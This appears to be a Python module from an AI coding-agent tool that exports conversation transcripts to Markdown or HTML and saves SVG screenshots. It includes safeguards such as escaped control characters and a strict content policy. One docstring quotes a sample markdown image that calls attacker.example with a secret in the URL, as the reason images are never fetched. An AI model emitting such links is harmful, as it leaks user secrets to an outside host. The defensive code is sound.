"""`/render FILE`: the transcript as Markdown, or as a standalone HTML page (chosen by the extension); the
palette's Screenshot: the screen as an SVG picture in .xun/exports/."""

from __future__ import annotations

import html
import re
from pathlib import Path

from xun.base.atomic import write_text_atomic
from xun.base.confined import dir_fd_beneath, write_beneath
from xun.base.valid_text import escape_control
from xun.context.conversation import Conversation
from xun.tui.transcript import (
    AssistantItem,
    SummaryItem,
    ToolItem,
    UserItem,
    transcript,
    whole_history,
)

MARKDOWN_SUFFIXES = (".md", ".markdown")
HTML_SUFFIXES = (".html", ".htm")


class ExportError(ValueError):
    pass


def _fence(text: str, info: str = "") -> str:
    longest = max((len(run) for run in re.findall(r"`{3,}", text)), default=2)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{text}\n{fence}"


def _quote(text: str) -> str:
    return "\n".join("> " + line if line else ">" for line in text.splitlines() or [""])


def _demoted(markdown: str, levels: int = 2) -> str:
    """Headings `levels` deeper (outside code fences), so a summary's sections sit below the document's."""
    out, fence = [], ""
    for line in markdown.splitlines():
        stripped = line.lstrip()
        run = re.match(r"(`{3,}|~{3,})", stripped)
        if run and (not fence or run.group(1).startswith(fence)):
            fence = "" if fence else run.group(1)
        elif not fence and re.match(r"#{1,6}\s", stripped):
            line = "#" * levels + stripped
        out.append(line)
    return "\n".join(out)


def transcript_markdown(conversation: Conversation, title: str) -> str:
    """The whole history: what summaries took out of the context comes back from the offload log,
    each turn of it marked "(summarised)", above the rule that says which summary replaced it. Control
    characters are written visibly, as the app shows them (`\\x1b`): `cat` of an export runs none of them."""
    parts = [f"# {title}", ""]
    record = transcript(conversation)
    items, problems = whole_history(record.items)
    for problem in problems:
        parts += [f"*{problem}*", ""]
    for item in items:
        mark = " (summarised)" if getattr(item, "summarised", False) else ""
        if isinstance(item, SummaryItem):
            where = f", originals offloaded to `{item.offload_path}`" if item.offload_path else ""
            parts += [
                "",
                "---",
                "",
                f"*Summary: {item.condensed} messages summarised{where}; {item.kept} kept. "
                "Above this line: out of the context.*",
                "",
                "---",
                "",
            ]
        elif isinstance(item, UserItem):
            carried = " (the turn's prompt, carried past the summary)" if item.carried else ""
            parts += [f"## You{mark}{carried}", "", _quote(item.text), ""]
        elif isinstance(item, AssistantItem):
            parts += [f"## Assistant{mark}", ""]
            if item.reasoning:
                parts += ["*Reasoning:*", "", _fence(item.reasoning), ""]
            if item.content:
                parts += [item.content, ""]
        elif isinstance(item, ToolItem):
            state = " (reclaimed)" if item.reclaimed else mark
            parts += [f"### Tool `{item.name}`{state}", "", _fence(item.arguments or "{}", "json"), ""]
            if item.result is not None:
                parts += [_fence(item.result), ""]
    if record.summary:
        parts += ["## The current summary", "", _demoted(record.summary), ""]
    return escape_control("\n".join(parts).rstrip() + "\n")


HTML_PAGE = """<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">
<title>{title}</title>
<style>
body {{ font-family: system-ui, sans-serif; max-width: 52rem; margin: 2rem auto; padding: 0 1rem; line-height: 1.5; }}
pre {{ background: #f4f4f4; padding: .75rem; overflow-x: auto; white-space: pre-wrap; }}
blockquote {{ border-left: 4px solid #4a9; margin: 0; padding-left: 1rem; }}
h2 {{ border-bottom: 1px solid #ddd; }}
</style>
</head>
<body>
{body}
</body>
</html>
"""


def _image_as_text(self, tokens, index, options, env) -> str:
    """An image in the transcript is shown as its description and address, never fetched: opening the
    export must not call `![](https://attacker.example/p.png?k=SECRET)` (the page's CSP refuses it too)."""
    token = tokens[index]
    alt = self.renderInlineAsText(token.children or [], options, env)
    return f"[image: {html.escape(alt)} &lt;{html.escape(str(token.attrGet('src') or ''))}&gt;]"


def transcript_html(conversation: Conversation, title: str) -> str:
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark", {"html": False})
    renderer.add_render_rule("image", _image_as_text)
    body = renderer.render(transcript_markdown(conversation, title))
    return HTML_PAGE.format(title=html.escape(title), body=body)


def _is_transcript(path: Path) -> bool:
    """An earlier export (its title is at the top), which a new one may replace; any other file is the user's."""
    try:
        with path.open("rb") as file:
            head = file.read(4096)
    except OSError:
        return False
    return b"# xun session " in head or b"<title>xun session " in head


def render_transcript(conversation: Conversation, target: str, workdir: Path) -> Path:
    """Write the transcript to `target` (relative to the working directory); the suffix picks the format."""
    if not target.strip():
        raise ExportError("give a file name: /render transcript.md or /render transcript.html")
    path = Path(target.strip()).expanduser()
    if not path.is_absolute():
        path = workdir / path
    suffix = path.suffix.lower()
    title = f"xun session {conversation.conversation_id}"
    if suffix in MARKDOWN_SUFFIXES:
        text = transcript_markdown(conversation, title)
    elif suffix in HTML_SUFFIXES:
        text = transcript_html(conversation, title)
    else:
        raise ExportError(f"{path.name}: the name should end in .html or .md (or .markdown)")
    if not path.parent.is_dir():
        raise ExportError(f"the folder {path.parent} does not exist; make it first, or give another path")
    if path.exists() and not _is_transcript(path):
        raise ExportError(f"{path} exists and is not a transcript xun wrote: give another name (nothing was written)")
    try:
        write_text_atomic(path, text)  # 0600: a transcript can hold secrets, as .xun
    except OSError as exc:
        raise ExportError(f"could not write {path}: {exc.strerror or exc}") from None
    return path


SCREENSHOTS = Path(".xun") / "exports"
"""Where the palette's Screenshot goes, beside the inspector's saves (Textual's own went to a Downloads
folder that need not exist, and said only "Failed to save screenshot")."""


def save_screenshot(svg: str, workdir: Path, when: float) -> Path:
    """Write `svg` to `workdir/.xun/exports/screenshot-<local time>.svg` (never through a link, as every
    .xun file) and return its path; raises OSError."""
    import time

    stamp = time.strftime("%Y-%m-%d_%H-%M-%S", time.localtime(when))
    name, number = f"screenshot-{stamp}.svg", 1
    while (workdir / SCREENSHOTS / name).exists():  # two in one second
        number += 1
        name = f"screenshot-{stamp}-{number}.svg"
    with dir_fd_beneath(workdir, SCREENSHOTS, create=True):  # owner-only folders, as the inspector's saves
        pass
    write_beneath(workdir, SCREENSHOTS / name, svg, 0o600)
    return workdir / SCREENSHOTS / name
